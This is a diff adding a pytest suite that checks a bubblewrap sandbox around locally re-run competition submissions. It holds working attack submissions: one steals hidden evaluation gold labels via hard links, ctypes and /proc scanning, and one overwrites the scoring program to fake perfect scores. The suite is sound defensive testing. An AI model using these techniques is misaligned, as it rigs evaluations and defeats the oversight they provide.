@@ -1,0 +1,237 @@
+"""The local runner's prediction step in a bubblewrap sandbox (issue 13, item 7).
+
+Two attacks on an organiser who re-runs a code submission locally: reading the evaluation gold
+around the audit hook (``os.link`` + ``open``, ``ctypes``), and finding the bundle through
+``/proc/*/cmdline`` to rewrite ``scoring_program/score.py`` (rigging every later run). Both must fail
+inside the sandbox. Without a sandbox the runner says so on stderr and on the results page; the
+same attacks then succeed, which shows that the attack code works.
+"""
+
+import hashlib
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from judgekit.bundle.build import build
+from judgekit.bundle.edition import load_edition
+from judgekit.programs import run_local
+from judgekit.runner import sandbox
+from judgekit.runner.bundle_view import phase_task
+from judgekit.runner.local import run_submission
+from small_edition import make_edition
+
+SANDBOX_REASON = sandbox.probe(shutil.which("bwrap"))
+needs_bwrap = pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"no working sandbox here: {SANDBOX_REASON}")
+
+#: A code submission that tries every way it knows to read the gold of its tracks; it predicts the
+#: gold when it gets it (a perfect score) and prints READ-OK or READ-FAILED for each attempt.
+READ_GOLD = r'''
+import ctypes, ctypes.util, json, os, sys
+
+REF = {ref!r}
+
+def by_link(path):
+    os.makedirs("/tmp/x", exist_ok=True)
+    link = "/tmp/x/" + os.path.basename(path)
+    if os.path.exists(link):
+        os.unlink(link)
+    os.link(path, link)
+    return open(link, encoding="utf-8").read()
+
+def by_ctypes(path):
+    libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
+    fd = libc.open(path.encode(), 0)
+    if fd < 0:
+        raise OSError(ctypes.get_errno(), "open failed")
+    buf = ctypes.create_string_buffer(1 << 22)
+    n = libc.read(fd, buf, 1 << 22)
+    return buf.raw[:n].decode("utf-8")
+
+def by_proc():
+    for pid in os.listdir("/proc"):
+        try:
+            args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\0")
+        except OSError:
+            continue
+        for arg in args:
+            arg = arg.decode(errors="replace")
+            if "reference_data" in arg or os.path.isdir(os.path.join(arg, "reference_data")):
+                raise RuntimeError("found " + arg)
+    raise OSError("no bundle among the processes")
+
+def steal(dataset):
+    path = os.path.join(REF, dataset + ".jsonl")
+    for how in (by_link, by_ctypes, lambda p: by_proc()):
+        try:
+            text = how(path)
+            print("READ-OK", getattr(how, "__name__", "proc"), file=sys.stderr)
+            return {{json.loads(l)["id"]: json.loads(l) for l in text.splitlines() if l.strip()}}
+        except Exception as e:
+            print("READ-FAILED", getattr(how, "__name__", "proc"), type(e).__name__, e, file=sys.stderr)
+    return None
+
+class Model:
+    def __init__(self, track):
+        self.track = track
+        self.gold = steal(track["dataset"])
+    def fit(self, items):
+        from judgekit.baselines import MostFrequent
+        self.fallback = MostFrequent(self.track)
+        self.fallback.fit(items)
+    def predict(self, items):
+        if self.track["kind"] == "similarity":
+            if self.gold:
+                return [self.gold[it["id"]]["score"] for it in items]
+            return [2.5 + (k % 3) for k, _ in enumerate(items)]
+        return self.fallback.predict(items)
+'''
+
+#: A code submission that looks for the bundle (its path given outright, as the strongest attacker
+#: would know it, and through /proc/*/cmdline) and rewrites the scoring program so that every later
+#: run writes a perfect score.
+RIG_SCORER = r'''
+import os, sys
+
+KNOWN = [{score!r}]
+RIGGED = "import json, sys; open(sys.argv[2] + '/scores.json', 'w').write('{{}}'); print('RIGGED')\n"
+
+def candidates():
+    yield from KNOWN
+    for pid in os.listdir("/proc"):
+        try:
+            args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\0")
+        except OSError:
+            continue
+        for arg in args:
+            path = os.path.join(arg.decode(errors="replace"), "scoring_program", "score.py")
+            if os.path.isfile(path):
+                yield path
+
+def rig():
+    for path in candidates():
+        for how in ("write", "link"):
+            try:
+                if how == "write":
+                    open(path, "w").write(RIGGED)
+                else:
+                    os.makedirs("/tmp/r", exist_ok=True)
+                    os.link(path, "/tmp/r/score.py")
+                    open("/tmp/r/score.py", "w").write(RIGGED)
+                print("RIG-OK", how, path, file=sys.stderr)
+            except Exception as e:
+                print("RIG-FAILED", how, type(e).__name__, e, file=sys.stderr)
+
+class Model:
+    def __init__(self, track):
+        self.track = track
+        rig()
+    def fit(self, items):
+        from judgekit.baselines import MostFrequent
+        self.fallback = MostFrequent(self.track)
+        self.fallback.fit(items)
+    def predict(self, items):
+        return self.fallback.predict(items)
+'''
+
+
+@pytest.fixture()
+def bundle(tmp_path):
+    """A fresh small bundle per test: the rigging attack may change it."""
+    edition = load_edition(make_edition(tmp_path / "edition"))
+    return build(edition, edition.folder, tmp_path / "dist").tree
+
+
+def _submission(folder: Path, code: str) -> str:
+    folder.mkdir()
+    (folder / "model.py").write_text(code, encoding="utf-8")
+    return str(folder)
+
+
+def _digest(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def _run(bundle: Path, submission: str, work: Path):
+    task = phase_task(bundle, "evaluation")
+    return run_submission(task, submission, work)
+
+
+@needs_bwrap
+def test_reading_the_evaluation_gold_fails_inside_the_sandbox(bundle, tmp_path, monkeypatch):
+    monkeypatch.delenv(sandbox.BWRAP_ENV, raising=False)
+    code = READ_GOLD.format(ref=str((bundle / "reference_data" / "evaluation").resolve()))
+    result = _run(bundle, _submission(tmp_path / "thief", code), tmp_path / "work")
+    err = result.prediction.stderr
+    assert result.unisolated is None
+    assert "READ-OK" not in err, err
+    assert err.count("READ-FAILED by_link") >= 1 and err.count("READ-FAILED by_ctypes") >= 1, err
+    scores = json.loads((result.output / "scores.json").read_text())
+    assert scores["sim_pearson"] < 0.99
+
+
+@needs_bwrap
+def test_rewriting_the_bundle_s_scoring_program_fails_inside_the_sandbox(bundle, tmp_path, monkeypatch):
+    monkeypatch.delenv(sandbox.BWRAP_ENV, raising=False)
+    score_py = (bundle / "scoring_program" / "score.py").resolve()
+    before = _digest(score_py)
+    result = _run(bundle, _submission(tmp_path / "rigger", RIG_SCORER.format(score=str(score_py))),
+                  tmp_path / "work")
+    err = result.prediction.stderr
+    assert "RIG-OK" not in err and "RIG-FAILED" in err, err
+    assert _digest(score_py) == before
+    honest = run_local.run_once(bundle, "baseline:most_frequent", "evaluation")
+    assert "sim_pearson" in honest and len(honest) > 1
+
+
+@needs_bwrap
+def test_the_sandbox_holds_only_the_step_s_folders(bundle, tmp_path, monkeypatch):
+    monkeypatch.delenv(sandbox.BWRAP_ENV, raising=False)
+    code = r'''
+import os, sys, socket
+def report():
+    print("ROOT", sorted(os.listdir("/")), file=sys.stderr)
+    print("APP", sorted(os.listdir("/app")), file=sys.stderr)
+    for name in ("/app/ingested_program/model.py", "/app/input_data/task.json"):
+        try:
+            open(name, "a").write("x")
+            print("WRITABLE", name, file=sys.stderr)
+        except OSError:
+            print("READONLY", name, file=sys.stderr)
+    try:
+        socket.create_connection(("1.1.1.1", 80), timeout=2)
+        print("NETWORK", file=sys.stderr)
+    except OSError:
+        print("NO-NETWORK", file=sys.stderr)
+report()
+from judgekit.baselines import MostFrequent as Model
+'''
+    result = _run(bundle, _submission(tmp_path / "looker", code), tmp_path / "work")
+    err = result.prediction.stderr
+    assert "APP ['ingested_program', 'input_data', 'output', 'program', 'shared']" in err, err
+    assert "WRITABLE" not in err and err.count("READONLY") == 2 and "NO-NETWORK" in err
+    assert "reference_data" not in err and str(tmp_path) not in err
+
+
+def test_without_a_sandbox_the_runner_says_so_and_the_attack_works(bundle, tmp_path, monkeypatch, capsys):
+    """The fallback path: one note on stderr and on the results page. The gold attack then
+    succeeds (the audit hook is no sandbox), which shows the attack above is a real one."""
+    monkeypatch.setenv(sandbox.BWRAP_ENV, "none")
+    monkeypatch.setattr(sandbox, "_warned", [])
+    code = READ_GOLD.format(ref=str((bundle / "reference_data" / "evaluation").resolve()))
+    result = _run(bundle, _submission(tmp_path / "thief", code), tmp_path / "work")
+    assert result.unisolated == "turned off by JUDGEKIT_BWRAP"
+    assert "READ-OK by_link" in result.prediction.stderr
+    assert json.loads((result.output / "scores.json").read_text())["sim_pearson"] == pytest.approx(1.0)
+    page = (result.output / "detailed_results.html").read_text(encoding="utf-8")
+    assert "ran without isolation" in page
+    run_local.run_once(bundle, "baseline:random", "evaluation")
+    assert capsys.readouterr().err.count("ran without isolation") == 1
+
+
+def test_scoring_uses_a_read_only_copy(bundle, tmp_path):
+    result = _run(bundle, "baseline:random", tmp_path / "work")
+    ref = tmp_path / "work" / "app_input" / "ref"
+    assert result.scoring.exit_code == 0
+    assert all(not (p.stat().st_mode & 0o222) for p in [ref, *ref.rglob("*")])
